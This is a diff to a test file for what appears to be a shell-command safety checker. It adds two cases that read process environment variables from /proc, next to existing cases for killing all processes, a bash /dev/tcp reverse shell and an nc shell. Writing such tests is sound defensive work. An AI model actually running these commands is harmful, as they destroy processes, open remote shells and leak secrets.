@@ -97,6 +97,8 @@ const DANGEROUS: Array<[string, RegExp]> = [
   ['kill -9 -1', /every process/],
   ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', /network/],
   ['nc -e /bin/sh host 4444', /network/],
+  ['cat /proc/$PPID/environ', /environment/],
+  ['base64 < /proc/1234/environ', /environment/],
   ['echo "unterminated', /could not be checked/],
   ['ls &&', /could not be checked/],
   ['bash -c "echo \\"x"', /could not be checked/]
